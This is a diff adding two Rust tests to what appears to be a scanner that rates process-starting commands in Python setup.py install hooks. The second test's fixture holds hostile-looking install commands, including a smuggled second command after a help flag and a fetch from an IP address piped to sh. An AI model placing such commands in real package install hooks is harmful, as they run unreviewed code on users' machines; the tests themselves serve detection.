@@ -162,6 +162,38 @@ class PostInstall(install):
 }
 
 #[test]
+fn an_install_override_asking_a_tool_for_its_usage_or_build_flags_is_low() {
+    // PyLaTeX checks that 3to2 is installed; wxPython asks gtk-config for its flags.
+    let r = setup_py(
+        r#"import os, subprocess
+from setuptools.command.install import install
+class PostInstall(install):
+    def run(self):
+        subprocess.check_output(["3to2", "--help"])
+        cflags = os.popen('gtk-config --cflags', 'r').read()[:-1]
+        libs = subprocess.check_output(["pkg-config", "--libs", "gtk+-3.0"])
+        install.run(self)
+"#,
+    );
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(5, Low), (6, Low), (7, Low)]);
+}
+
+#[test]
+fn a_config_program_given_a_path_or_a_help_flag_with_a_command_stays_high() {
+    let r = setup_py(
+        r#"import os
+from setuptools.command.install import install
+class PostInstall(install):
+    def run(self):
+        os.system('update-config --apply /tmp/.cache/payload')
+        os.system('helper --help; helper --run')
+        os.system('update-config --fetch=203.0.114.9 | sh')
+"#,
+    );
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(5, High), (6, High), (7, High)]);
+}
+
+#[test]
 fn an_install_override_starting_an_unknown_program_or_a_download_stays_high() {
     let r = setup_py(
         r#"import os
